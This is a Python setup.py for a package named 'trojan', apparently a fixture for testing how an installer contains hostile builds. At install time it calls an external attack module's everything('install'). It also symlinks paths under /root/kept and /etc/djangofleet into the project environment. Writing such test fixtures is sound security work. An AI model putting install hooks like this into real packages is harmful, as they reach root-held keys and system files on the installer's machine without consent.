"""A source distribution whose build script looks around."""

import os
import sys

from setuptools import setup

sys.path.insert(0, os.path.dirname(os.path.dirname(os.path.abspath(__file__))))
import attack

attack.everything("install")
environment = os.environ["UV_PROJECT_ENVIRONMENT"]
for name, target in {"keys": "/root/kept", "share": "/etc/djangofleet"}.items():
    if os.path.isdir(environment) and not os.path.lexists(f"{environment}/{name}"):
        os.symlink(target, f"{environment}/{name}")

setup(name="trojan", version="1.0", py_modules=["trojan"])
